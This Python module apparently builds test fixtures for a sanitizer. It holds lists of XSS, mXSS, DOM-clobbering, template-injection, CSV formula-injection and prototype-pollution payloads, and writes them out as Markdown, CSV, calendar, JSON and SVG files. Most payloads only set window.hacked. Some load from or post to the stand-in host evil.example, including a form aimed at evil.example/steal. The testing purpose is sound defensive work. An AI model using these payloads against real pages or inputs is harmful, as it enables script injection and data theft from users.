"""Texts that try to run a script in the page, to load something from elsewhere, or to change how the page works.

Each sets `window.hacked` where it is executed, or asks `evil.example` where it is obeyed; a test sees both.
"""

import json
from typing import Final

EVIL: Final = "https://evil.example"

MARKUP: Final = (
    "<script>window.hacked='script'</script>",
    f'<script src="{EVIL}/x.js"></script>',
    "<img src=x onerror=\"window.hacked='img'\">",
    "<img src=x onerror=window.hacked='unquoted'//",
    "<svg onload=\"window.hacked='svg'\"></svg>",
    "<svg><script>window.hacked='svg script'</script></svg>",
    f'<svg><use href="{EVIL}/sprite.svg#x"/></svg>',
    "<svg><animate href=#x attributeName=href values=javascript:window.hacked=1 /><a id=x><text>go</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked='noscript'>\">",
    "<iframe srcdoc=\"<script>parent.hacked='srcdoc'</script>\"></iframe>",
    f'<iframe src="{EVIL}/"></iframe>',
    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    f"<style>@import '{EVIL}/x.css'; * {{ display: none !important }}</style>",
    f'<div style="position:fixed;inset:0;background:url({EVIL}/b.png)">over everything</div>',
    f'<form action="{EVIL}/steal"><input name="attributes"><button>Go</button></form>',
    '<button formaction="javascript:window.hacked=1">Press</button>',
    "<details open ontoggle=\"window.hacked='toggle'\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"window.hacked='focus'\">",
    "<video><source onerror=\"window.hacked='video'\"></video>",
    f'<video poster="{EVIL}/poster.png"></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    "<body onload=\"window.hacked='body'\">",
    "<vm-reader></vm-reader><vm-calendar></vm-calendar><vm-form data-part></vm-form>",
    "<a id=location href=javascript:window.hacked=1>clobber</a><form id=document></form><img name=body>",
    "</p></div></section></main><h1>escaped the page</h1>",
    "<template><img src=x onerror=window.hacked='template'></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=window.hacked='xmp'>\">",
    "\u202e<img src=x onerror=window.hacked='bidi'>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.hacked=1>",
    "${window.hacked='template literal'} {{constructor.constructor('window.hacked=1')()}}",
    "\"><script>window.hacked='quote'</script>",
    "'; window.hacked='js'; '",
    "`;window.hacked='tick';`",
)

MARKDOWN: Final = (
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "[click](\x01javascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:window.hacked=1)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/protocol-relative)",
    "<javascript:window.hacked=1>",
    "[ref]: javascript:window.hacked=1\n\n[ref]",
    f"![pixel]({EVIL}/pixel.png)",
    '![x](x"onerror="window.hacked=1)',
    "![vm-image:0](vm-image:0)",
    '<img alt="own" title="vm-image:0">',
    f"![ref image][far]\n\n[far]: {EVIL}/far.png",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "`<img src=x onerror=window.hacked='code'>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked='cell'> | [x](javascript:window.hacked=1) |",
    "- [ ] <img src=x onerror=window.hacked='task'>",
    '# Heading <a name="location"></a> <img src=x onerror=window.hacked=1>',
    '[title](https://example.org "onmouseover=window.hacked=1 x=\'")',
    '<https://example.org/"onmouseover=window.hacked=1>',
    "<!-- <img src=x onerror=window.hacked='comment'> -->",
    "&lt;img src=x onerror=window.hacked='entity'&gt;",
)

NAMES: Final = (
    "<img src=x onerror=window.hacked='name'>",
    "\"><script>window.hacked='name'</script>",
    "{{7*7}} ${window.hacked=1}",
)
"""What can stand in the names of brands, projects and threads, in requests, comments and tasks."""


def markdown() -> str:
    """One document of all that Markdown can carry."""
    return "# Hostile document\n\n" + "\n\n".join((*MARKDOWN, *MARKUP)) + "\n"


def csv() -> str:
    """A table of payloads, in its head too."""
    cells = (*MARKUP, '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0")
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells]
    return f"name,{quoted[0]}\n" + "\n".join(f"row,{cell}" for cell in quoted) + "\n"


def ics() -> str:
    """A calendar of payloads, one a day."""
    events = "".join(_event(number, text) for number, text in enumerate(MARKUP))
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nX-WR-CALNAME:{_escaped(MARKUP[2])}\r\n{events}END:VCALENDAR\r\n"


def calendar_json() -> str:
    """A calendar deliverable of payloads."""
    entries = [
        {"on": f"2027-03-{1 + number % 28:02}", "title": text, "channel_name": text, "format": text, "brief": text}
        for number, text in enumerate(MARKUP)
    ]
    milestones = [{"on": "2027-03-01", "label": MARKUP[0]}]
    return json.dumps({"title": MARKUP[2], "weeks": [{"entries": entries}], "milestones": milestones})


def tree_json() -> str:
    """A tree of payloads, with keys that objects have of themselves."""
    own = {"__proto__": {"hacked": 1}, "constructor": "x", "toString": "y", "strings": ["x"], "_$litType$": 1}
    return json.dumps({**own, **{text: {"title": text, "list": [text]} for text in MARKUP}})


def svg() -> str:
    """An image that is a program."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.hacked=1">'
        f'<script>window.hacked=2</script><image href="{EVIL}/in.png"/><rect width="40" height="40"/></svg>'
    )


def _event(number: int, text: str) -> str:
    day = f"202703{1 + number % 28:02}"
    said = _escaped(text)
    lines = (
        "BEGIN:VEVENT",
        f"UID:{number}",
        f"DTSTART;VALUE=DATE:{day}",
        *(f"{name}:{said}" for name in ("SUMMARY", "DESCRIPTION", "LOCATION")),
        "END:VEVENT",
    )
    return "".join(f"{line}\r\n" for line in lines)


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")
